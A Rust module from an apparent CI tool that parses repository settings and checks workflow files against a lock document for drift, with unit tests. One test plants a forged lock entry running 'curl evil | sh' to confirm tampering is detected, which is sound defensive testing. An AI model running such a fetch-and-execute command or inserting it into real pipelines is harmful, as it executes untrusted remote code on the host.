//! What a commit says about workflows as a whole: its settings (`.kici/config.yaml`), its files and its lock document
//! (workflows-and-events R11, R15).

use std::collections::BTreeMap;

use crate::compile::CompiledSet;
use crate::lock::{LockDocument, Workflow};
use crate::lockfile::{self, LockFileError};
use crate::yaml::{self, Core, Data, Limits, Node};

/// Path of the settings in a repository.
pub const CONFIG_FILE: &str = ".kici/config.yaml";
/// Path of the lock document in a repository.
pub const LOCK_FILE: &str = ".kici/kici.lock.json";
/// Folder of the workflow files in a repository.
pub const WORKFLOW_FOLDER: &str = ".kici/workflows/";

/// Which of workflow files and lock document counts.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum LockMode {
    /// The files are compiled; the lock document adds workflows that do not come from such a file.
    #[default]
    Auto,
    /// Only the lock document counts, and the files must compile to what it says.
    Required,
    /// Only the files count.
    Ignore,
}

/// The settings of a repository.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RepositoryConfig {
    /// What counts.
    pub lock: LockMode,
    /// A marker in a commit message keeps a push from starting anything.
    pub skip_ci: bool,
}

impl Default for RepositoryConfig {
    fn default() -> Self {
        Self { lock: LockMode::Auto, skip_ci: true }
    }
}

/// Settings that cannot be used. Nothing of the commit runs then: they may have asked for more care than the defaults do.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{CONFIG_FILE}:{line}:{column}: {problem}")]
pub struct ConfigError {
    /// Line, from 1.
    pub line: u32,
    /// Column, from 1.
    pub column: u32,
    /// What is wrong and what is right.
    pub problem: String,
}

impl ConfigError {
    fn at(node: yaml::Span, problem: impl Into<String>) -> Self {
        Self { line: node.start.line, column: node.start.col, problem: problem.into() }
    }
}

/// Reads the settings; an empty file has the defaults.
///
/// # Errors
/// The first [`ConfigError`].
pub fn read_config(text: &str) -> Result<RepositoryConfig, ConfigError> {
    let reading = yaml::read(text, Limits::default());
    if let Some(fault) = reading.faults.first() {
        return Err(ConfigError::at(fault.span, fault.message.clone()));
    }
    let mut config = RepositoryConfig::default();
    let Some(document) = reading.documents.first() else { return Ok(config) };
    if let Some(second) = reading.documents.get(1) {
        return Err(ConfigError::at(second.root.span, "one document is expected"));
    }
    if document.root.is_null() {
        return Ok(config);
    }
    let Data::Map(entries) = &document.root.data else {
        let problem = format!("a map of settings is expected, not {}", document.root.describe());
        return Err(ConfigError::at(document.root.span, problem));
    };
    for entry in entries {
        match entry.key.as_str() {
            "lock" => config.lock = lock_mode(&entry.value)?,
            "skip_ci" => config.skip_ci = flag(&entry.value)?,
            other => {
                let problem = format!("unknown key `{}`; there are: lock, skip_ci", yaml::shorten(other));
                return Err(ConfigError::at(entry.span, problem));
            }
        }
    }
    Ok(config)
}

fn lock_mode(node: &Node) -> Result<LockMode, ConfigError> {
    match node.text() {
        Some("auto") => Ok(LockMode::Auto),
        Some("required") => Ok(LockMode::Required),
        Some("ignore") => Ok(LockMode::Ignore),
        _ => Err(ConfigError::at(node.span, format!("`lock` is auto, required or ignore, not {}", node.describe()))),
    }
}

fn flag(node: &Node) -> Result<bool, ConfigError> {
    match node.core() {
        Some(Core::Bool(flag)) => Ok(flag),
        _ => Err(ConfigError::at(node.span, format!("`skip_ci` is true or false, not {}", node.describe()))),
    }
}

/// One workflow of a commit.
#[derive(Clone, Debug, PartialEq)]
pub struct Resolved {
    /// Its definition.
    pub workflow: Workflow,
    /// Why it must not run as it stands: the lock document and the file differ. A run of it fails with `lock_drift`.
    pub drift: Option<String>,
}

/// The workflows of a commit.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct ResolvedSet {
    /// In the order of the files, then of the lock document.
    pub workflows: Vec<Resolved>,
    /// The lock document cannot be used; nothing of it is in `workflows`.
    pub corrupt: Option<LockFileError>,
    /// A lock document is required and there is none.
    pub missing: bool,
    /// What else there is to know.
    pub notes: Vec<String>,
}

/// Puts files and lock document together. `lock` is the document's text, if the commit has one.
pub fn resolve(config: RepositoryConfig, set: &CompiledSet, lock: Option<&str>) -> ResolvedSet {
    let mut out = ResolvedSet::default();
    let document = match (config.lock, lock) {
        (LockMode::Ignore, _) | (_, None) => None,
        (_, Some(text)) => match lockfile::read(text.as_bytes()) {
            Ok(document) => Some(document),
            Err(error) => {
                out.corrupt = Some(error);
                None
            }
        },
    };
    if config.lock == LockMode::Required {
        out.missing = lock.is_none();
        if let Some(document) = document {
            required(set, document, &mut out);
        }
        return out;
    }
    out.workflows.extend(set.workflows().map(|workflow| Resolved { workflow: workflow.clone(), drift: None }));
    for workflow in document.into_iter().flat_map(|document| document.workflows) {
        if is_workflow_file(&workflow.source.file) {
            continue;
        }
        if out.workflows.iter().any(|other| other.workflow.name == workflow.name) {
            out.notes.push(format!("workflow `{}` of the lock document: a workflow file has its name", workflow.name));
        } else {
            out.workflows.push(Resolved { workflow, drift: None });
        }
    }
    out
}

/// The document counts; every workflow of it that comes from a file must be what the file compiles to.
fn required(set: &CompiledSet, document: LockDocument, out: &mut ResolvedSet) {
    let compiled: BTreeMap<&str, &Workflow> =
        set.workflows().map(|workflow| (workflow.name.as_str(), workflow)).collect();
    let locked: Vec<String> = document.workflows.iter().map(|workflow| workflow.name.clone()).collect();
    for workflow in document.workflows {
        let drift = is_workflow_file(&workflow.source.file).then(|| drift(&workflow, &compiled)).flatten();
        out.workflows.push(Resolved { workflow, drift });
    }
    for name in compiled.keys().filter(|name| !locked.iter().any(|locked| locked == **name)) {
        out.notes.push(format!("workflow `{name}` is not in the lock document and does not run; recompile"));
    }
}

fn drift(locked: &Workflow, compiled: &BTreeMap<&str, &Workflow>) -> Option<String> {
    let file = &locked.source.file;
    match compiled.get(locked.name.as_str()) {
        None => Some(format!("the lock document has workflow `{}`, and {file} does not; recompile", locked.name)),
        // The hash covers the source; the rest tells a document that was written by hand around an honest hash.
        Some(now) if now.content_hash != locked.content_hash || **now != *locked => {
            Some(format!("{file} does not compile to what the lock document says; recompile"))
        }
        Some(_) => None,
    }
}

fn is_workflow_file(path: &str) -> bool {
    path.starts_with(WORKFLOW_FOLDER) && (path.ends_with(".yaml") || path.ends_with(".yml"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compile::compile_set;
    use crate::lock::Generator;
    use crate::lockfile::document;

    const CI: &str = "name: ci\non: push\njobs: { a: { runs_on: x, run: 'true' } }\n";

    fn set(text: &str) -> CompiledSet {
        compile_set(&[(format!("{WORKFLOW_FOLDER}ci.yaml"), text.to_owned())])
    }

    fn lock(workflows: Vec<Workflow>) -> String {
        serde_json::to_string(&document(workflows, Generator { name: "t".into(), version: "1".into() })).unwrap()
    }

    fn foreign(name: &str) -> Workflow {
        let mut workflow = set(CI).workflows().next().unwrap().clone();
        workflow.name = name.to_owned();
        workflow.source.file = "build.py".to_owned();
        workflow
    }

    fn names(set: &ResolvedSet) -> Vec<(&str, bool)> {
        set.workflows.iter().map(|one| (one.workflow.name.as_str(), one.drift.is_some())).collect()
    }

    #[test]
    fn settings_are_read_and_mistakes_have_a_place() {
        let config = |lock, skip_ci| RepositoryConfig { lock, skip_ci };
        for (text, want) in [
            ("", config(LockMode::Auto, true)),
            ("# nothing\n", config(LockMode::Auto, true)),
            ("lock: required\nskip_ci: false\n", config(LockMode::Required, false)),
            ("{lock: ignore}", config(LockMode::Ignore, true)),
        ] {
            assert_eq!(read_config(text), Ok(want), "{text}");
        }
        for (text, want) in [
            ("lok: auto", ".kici/config.yaml:1:1: unknown key `lok`; there are: lock, skip_ci"),
            ("skip_ci: true\nlock: yes", ".kici/config.yaml:2:7: `lock` is auto, required or ignore, not `yes`"),
            ("skip_ci: no", ".kici/config.yaml:1:10: `skip_ci` is true or false, not `no`"),
            ("- a", ".kici/config.yaml:1:1: a map of settings is expected, not a list"),
        ] {
            assert_eq!(read_config(text).unwrap_err().to_string(), want);
        }
        assert!(read_config("a: [").is_err() && read_config("{}\n---\n{}").is_err());
    }

    #[test]
    fn auto_compiles_files_and_takes_only_foreign_workflows_from_the_lock() {
        let stale = {
            let mut w = set(CI).workflows().next().unwrap().clone();
            w.name = "gone".into();
            w
        };
        let text = lock(vec![stale, foreign("generated"), foreign("ci")]);
        let found = resolve(RepositoryConfig::default(), &set(CI), Some(&text));
        assert_eq!(names(&found), [("ci", false), ("generated", false)]);
        assert!(found.notes[0].contains("`ci`") && found.corrupt.is_none());
        let bad = resolve(RepositoryConfig::default(), &set(CI), Some("{}"));
        assert_eq!(names(&bad), [("ci", false)], "files still run");
        assert!(bad.corrupt.is_some());
        let ignored = RepositoryConfig { lock: LockMode::Ignore, ..RepositoryConfig::default() };
        assert_eq!(resolve(ignored, &set(CI), Some("{}")).corrupt, None);
    }

    #[test]
    fn required_runs_what_is_locked_and_names_drift() {
        let config = RepositoryConfig { lock: LockMode::Required, ..RepositoryConfig::default() };
        let honest = lock(set(CI).workflows().cloned().chain([foreign("generated")]).collect());
        assert_eq!(names(&resolve(config, &set(CI), Some(&honest))), [("ci", false), ("generated", false)]);
        let changed = resolve(config, &set(&CI.replace("true", "false")), Some(&honest));
        assert_eq!(names(&changed), [("ci", true), ("generated", false)]);
        let renamed = resolve(config, &set(&CI.replace("name: ci", "name: cd")), Some(&honest));
        assert_eq!(names(&renamed), [("ci", true), ("generated", false)]);
        assert!(renamed.notes[0].contains("`cd` is not in the lock document"));
        // The hash of the source, with another content.
        let mut forged = set(CI).workflows().next().unwrap().clone();
        forged.jobs[0].steps[0].action = crate::lock::Action::Run("curl evil | sh".into());
        assert_eq!(names(&resolve(config, &set(CI), Some(&lock(vec![forged])))), [("ci", true)]);
        let none = resolve(config, &set(CI), None);
        assert!(none.missing && none.workflows.is_empty());
        assert!(resolve(config, &set(CI), Some("x")).corrupt.is_some());
    }
}
